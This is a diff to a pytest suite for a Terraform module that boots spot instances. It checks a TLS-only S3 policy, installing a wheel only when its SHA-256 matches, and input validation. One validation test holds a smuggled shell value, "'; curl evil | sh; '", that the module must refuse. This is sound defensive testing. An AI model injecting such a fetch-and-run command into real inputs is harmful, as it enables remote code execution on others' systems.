@@ -7,18 +7,21 @@ checks cover what spotrun relies on instead (terraform/README.md, "Development")
 from __future__ import annotations
 
 import functools
+import hashlib
 import os
 import shutil
 import subprocess
+import sys
 from pathlib import Path
 from typing import Any
 
+import boto3
 import hcl2
 import pytest
 
 from cloud.errors import TerraformError
 from cloud.provider import TAG_JOB
-from cloud.terraform import MODULE_DIR, REQUIRED_OUTPUTS, TerraformModule
+from cloud.terraform import MODULE_DIR, REQUIRED_OUTPUTS, WHEEL_VARIABLE, TerraformModule
 
 from .conftest import needs_terraform, write_module
 
@@ -56,7 +59,7 @@ def test_module_declares_every_output_spotrun_reads() -> None:
 
 def test_every_variable_has_a_description_and_a_type() -> None:
     variables = _named("variable")
-    assert {"region", "vpc_id", "subnet_ids", "ami_ssm_parameter", "ami_id", "root_volume_size_gb", "spotrun_package",
+    assert {"region", "vpc_id", "subnet_ids", "ami_ssm_parameter", "ami_id", "root_volume_size_gb", WHEEL_VARIABLE,
             "noncurrent_version_expiration_days"} <= variables.keys()
     for name, body in variables.items():
         assert body.get("description"), f"variable {name} has no description"
@@ -119,6 +122,30 @@ def test_bucket_is_versioned_encrypted_private_and_expires_old_versions() -> Non
     assert rule["noncurrent_version_expiration"] == [{"noncurrent_days": "${var.noncurrent_version_expiration_days}"}]
 
 
+def test_bucket_refuses_every_request_without_tls() -> None:
+    (attached,) = _resources("aws_s3_bucket_policy").values()
+    assert attached["bucket"] == "${aws_s3_bucket.checkpoints.id}"
+    assert attached["policy"] == "${data.aws_iam_policy_document.bucket.json}"
+    (statement,) = _resources("aws_iam_policy_document", "data")["bucket"]["statement"]
+    assert statement["effect"] == "Deny" and statement["actions"] == ["s3:*"]
+    assert sorted(statement["resources"]) == [_BUCKET_ARN, f"{_BUCKET_ARN}/*"]
+    assert statement["principals"] == [{"type": "*", "identifiers": ["*"]}]
+    assert statement["condition"] == [{"test": "Bool", "variable": "aws:SecureTransport", "values": ["false"]}]
+
+
+def test_instances_get_the_wheel_terraform_stored_under_its_digest_and_no_package_from_an_index() -> None:
+    wheel_locals = next(entry for entry in _parsed()["locals"] if "spotrun_wheel_sha256" in entry)
+    assert wheel_locals["spotrun_wheel_sha256"] == "${filesha256(var.spotrun_wheel)}"
+    stored = _resources("aws_s3_object")["spotrun_wheel"]
+    assert stored["bucket"] == "${aws_s3_bucket.checkpoints.id}" and stored["source"] == "${var.spotrun_wheel}"
+    assert "${local.spotrun_wheel_sha256}" in stored["key"]
+    (template,) = _resources("aws_launch_template").values()
+    for argument in ("bucket = aws_s3_object.spotrun_wheel.bucket", "wheel_key = aws_s3_object.spotrun_wheel.key",
+                     "wheel_name = local.spotrun_wheel_name", "wheel_sha256 = local.spotrun_wheel_sha256"):
+        assert argument in template["user_data"]
+    assert "spotrun_package" not in _named("variable")
+
+
 def test_user_data_reads_the_tags_the_agent_expects() -> None:
     template = (MODULE_DIR / "user_data.sh.tftpl").read_text()
     assert "X-aws-ec2-metadata-token-ttl-seconds" in template  # IMDSv2: a token first
@@ -136,26 +163,98 @@ def test_module_is_terraform_fmt_clean(terraform_config: Path) -> None:
     assert result.returncode == 0, f"run `terraform fmt -recursive terraform/`:\n{result.stdout}{result.stderr}"
 
 
-@needs_terraform
-def test_user_data_renders_to_valid_bash(tmp_path: Path, terraform_config: Path) -> None:
-    """Rendered by terraform itself with the launch template's arguments, then parsed by bash."""
-    module = write_module(tmp_path / "render", (
-        'variable "spotrun_package" {\n  type = string\n}\n'
-        'output "user_data" {\n  value = templatefile("${path.module}/user_data.sh.tftpl", { spotrun_package = var.spotrun_package })\n}\n'
+def _render_user_data(tmp_path: Path, **values: str) -> str:
+    """The user data as terraform renders it for the launch template, with these template variables."""
+    names = sorted(values)
+    module = write_module(tmp_path / "render", "".join(f'variable "{name}" {{\n  type = string\n}}\n' for name in names) + (
+        'output "user_data" {\n  value = templatefile("${path.module}/user_data.sh.tftpl", {'
+        + ", ".join(f"{name} = var.{name}" for name in names) + "})\n}\n"
     ))
     shutil.copyfile(MODULE_DIR / "user_data.sh.tftpl", module / "user_data.sh.tftpl")
     terraform = TerraformModule(tmp_path / "work", tmp_path / "outputs.json", source=module)
     terraform.init()
-    script = terraform.apply({"spotrun_package": "spotrun==0.1.0"})["user_data"]
+    return str(terraform.apply(values)["user_data"])
 
-    assert "pip\" install -q 'spotrun==0.1.0'" in script
+
+@needs_terraform
+def test_user_data_renders_to_valid_bash(tmp_path: Path, terraform_config: Path) -> None:
+    """Rendered by terraform itself with the launch template's arguments, then parsed by bash."""
+    script = _render_user_data(tmp_path, bucket="spotrun-checkpoints-1", wheel_key="_spotrun/wheels/ab/spotrun-0.1.0-py3-none-any.whl",
+                               wheel_name="spotrun-0.1.0-py3-none-any.whl", wheel_sha256="ab" * 32)
+
     checked = subprocess.run(["bash", "-n"], input=script, capture_output=True, text=True, timeout=30)
     assert checked.returncode == 0, checked.stderr
 
 
+# Stand-ins for what only an instance has: its metadata service (curl), shutdown, and a venv whose
+# pip and spotrun record what they were asked (its python is the real one, so boto3 really downloads).
+_CURL = """#!/bin/bash
+case "${@: -1}" in
+  */api/token) echo token ;;
+  */tags/instance/spotrun:job) echo job-1 ;;
+  */placement/region) echo us-east-1 ;;
+  *) exit 22 ;;
+esac
+"""
+_RECORDER = '#!/bin/bash\necho "$(basename "$0") $*" >> "$BOOT_LOG"\n'
+_PYTHON3 = """#!/bin/bash
+if [ "$1" = -m ] && [ "$2" = venv ]; then
+  mkdir -p "$3/bin" && ln -s "$REAL_PYTHON" "$3/bin/python"
+  for tool in pip spotrun; do cp "$RECORDER" "$3/bin/$tool"; chmod +x "$3/bin/$tool"; done
+  exit 0
+fi
+exec "$REAL_PYTHON" "$@"
+"""
+
+
+def _boot(script: str, instance: Path) -> tuple[subprocess.CompletedProcess[str], list[str]]:
+    """Run the user data as an instance would, in ``instance`` instead of /opt; what it printed, and what it asked of pip, spotrun and shutdown."""
+    bin_dir = instance / "bin"
+    bin_dir.mkdir(parents=True)
+    for name, text in (("curl", _CURL), ("shutdown", _RECORDER), ("python3", _PYTHON3), ("recorder", _RECORDER)):
+        (bin_dir / name).write_text(text)
+        (bin_dir / name).chmod(0o755)
+    for line in ("VENV=/opt/spotrun\n", "WHEELS=/opt/spotrun-wheels\n"):
+        assert line in script
+    script = script.replace("VENV=/opt/spotrun\n", f"VENV={instance}/venv\n").replace("WHEELS=/opt/spotrun-wheels\n", f"WHEELS={instance}/wheels\n")
+    log = instance / "boot.log"
+    env = {**os.environ, "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}", "BOOT_LOG": str(log), "REAL_PYTHON": sys.executable,
+           "RECORDER": str(bin_dir / "recorder")}
+    booted = subprocess.run(["bash", "-c", script], env=env, capture_output=True, text=True, timeout=60)
+    return booted, log.read_text().splitlines() if log.exists() else []
+
+
+@needs_terraform
+def test_user_data_installs_the_wheel_from_the_bucket_only_when_its_sha256_matches(
+    tmp_path: Path, terraform_config: Path, s3_bucket: str
+) -> None:
+    bucket = s3_bucket.removeprefix("s3://")
+    wheel = b"PK\x03\x04 the wheel spotrun infra up built"
+    name = "spotrun-0.1.0-py3-none-any.whl"
+    digest = hashlib.sha256(wheel).hexdigest()
+    key = f"_spotrun/wheels/{digest}/{name}"
+    s3 = boto3.client("s3")
+    s3.put_object(Bucket=bucket, Key=key, Body=wheel)
+    script = _render_user_data(tmp_path, bucket=bucket, wheel_key=key, wheel_name=name, wheel_sha256=digest)
+
+    booted, asked = _boot(script, tmp_path / "instance-1")
+    assert booted.returncode == 0, booted.stdout + booted.stderr
+    installed = f"{tmp_path}/instance-1/wheels/{name}"
+    assert Path(installed).read_bytes() == wheel
+    assert [line for line in asked if "install" in line] == ["pip install -q --upgrade pip", "pip install -q boto3", f"pip install -q {installed}"]
+    assert asked[-2:] == ["spotrun agent --from-instance-tags", "shutdown -h now"]
+
+    # A job's code may write anywhere in the bucket (its role can): a replaced wheel is not installed.
+    s3.put_object(Bucket=bucket, Key=key, Body=wheel + b" and something else")
+    booted, asked = _boot(script, tmp_path / "instance-2")
+    assert booted.returncode == 1
+    assert "is not the wheel this launch template names" in booted.stdout
+    assert not [line for line in asked if "spotrun" in line] and asked[-1] == "shutdown -h now"
+
+
 @needs_terraform
 def test_variable_defaults_pass_their_own_validation(tmp_path: Path, terraform_config: Path) -> None:
-    _variables_only(tmp_path).apply()
+    _variables_only(tmp_path).apply(_a_wheel(tmp_path))
 
 
 @needs_terraform
@@ -167,13 +266,22 @@ def test_variable_defaults_pass_their_own_validation(tmp_path: Path, terraform_c
     ("subnet_ids", '["sg-0123"]', "subnet_ids must be subnet ids"),
     ("ami_id", "image-1", "ami_id must be an AMI id"),
     ("root_volume_size_gb", "8", "between 30 and 16384"),
-    ("spotrun_package", "spotrun'; curl evil | sh; '", "without spaces or single quotes"),
+    ("spotrun_wheel", "/tmp/x/spotrun'; curl evil | sh; '.whl", "the path of a wheel file"),
+    ("spotrun_wheel", "/tmp/spotrun.tar.gz", "the path of a wheel file"),
+    ("spotrun_wheel", "/nowhere/spotrun-0.1.0-py3-none-any.whl", "spotrun_wheel names no file"),
 ])
 def test_bad_variable_values_are_refused_with_the_modules_message(
     tmp_path: Path, terraform_config: Path, name: str, value: str, complaint: str,
 ) -> None:
     with pytest.raises(TerraformError, match=complaint):
-        _variables_only(tmp_path).apply({name: value})
+        _variables_only(tmp_path).apply({**_a_wheel(tmp_path), name: value})
+
+
+def _a_wheel(tmp_path: Path) -> dict[str, str]:
+    """A value for the one variable without a default: a file named like a wheel."""
+    wheel = tmp_path / "spotrun-0.1.0-py3-none-any.whl"
+    wheel.write_bytes(b"PK\x05\x06" + bytes(18))
+    return {WHEEL_VARIABLE: str(wheel)}
 
 
 def _variables_only(tmp_path: Path) -> TerraformModule:
